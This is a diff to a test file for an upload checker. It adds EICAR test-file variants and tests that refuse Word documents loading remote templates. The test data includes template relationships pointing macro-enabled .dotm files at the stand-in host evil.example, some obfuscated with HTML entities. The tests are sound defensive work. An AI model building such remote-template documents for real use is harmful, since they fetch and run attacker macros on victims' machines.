@@ -91,9 +91,16 @@ describe('what the bytes show to be a program is refused, whatever its name', ()
   });
 });
 
-test.each(['', '\r\n', ' \t\n'])('the EICAR test file is refused, with %j after it', async (after) => {
-  for (const name of ['eicar.com.txt', 'statement.pdf']) await refuses('virus')(name, latin1(EICAR + after));
-  await refusesWithin(zip([{ name: 'statement.pdf', content: EICAR + after }]), /virus test file/);
+test.each([
+  ['', ''],
+  ['', ' \t\n'],
+  [' ', ''],
+  ['\r\n\t', '\r\n'],
+  ['\xef\xbb\xbf', ''],
+])('the EICAR test file is refused, with %j before and %j after it', async (before, after) => {
+  const bytes = latin1(before + EICAR + after);
+  for (const name of ['eicar.com.txt', 'statement.pdf']) await refuses('virus')(name, bytes);
+  await refusesWithin(zip([{ name: 'statement.pdf', content: bytes }]), /virus test file/);
 });
 
 describe('web pages and drawings are refused, whatever their name', () => {
@@ -182,6 +189,32 @@ describe('Office documents with macros are refused, whatever their name', () => 
     ],
   ])('%s without any is kept', async (name, bytes, type) =>
     expect(await checkFile(name, bytes)).toEqual({ type, preview: false }),
+  );
+});
+
+describe('an Office document that loads its template', () => {
+  const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
+  const withTemplate = (target: string, type = TYPE) =>
+    office('docx', {
+      name: 'word/_rels/settings.xml.rels',
+      content: `<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+    });
+
+  test.each([
+    'https://evil.example/a.dotm',
+    '\\\\evil.example\\share\\a.dotm',
+    'file:///\\\\evil.example\\share\\a.dotm',
+    'file://evil.example/share/a.dotm',
+    '&#104;ttp://evil.example/a.dotm',
+  ])('from elsewhere is refused: %s', async (target) => {
+    await refuses('template')('letter.docx', withTemplate(target));
+    await refuses('template')('letter.docx', withTemplate(target, TYPE.replace('Template', '&#x54;emplate')));
+    await refusesWithin(zip([{ name: 'a.docx', content: withTemplate(target) }]), /loads a template/);
+  });
+
+  test.each(['file:///C:\\Users\\Ann\\Templates\\Letter.dotx', 'Normal.dotm'])(
+    'from its own drive is kept: %s',
+    async (target) => expect(await checkFile('letter.docx', withTemplate(target))).toMatchObject({ preview: false }),
   );
 });
 
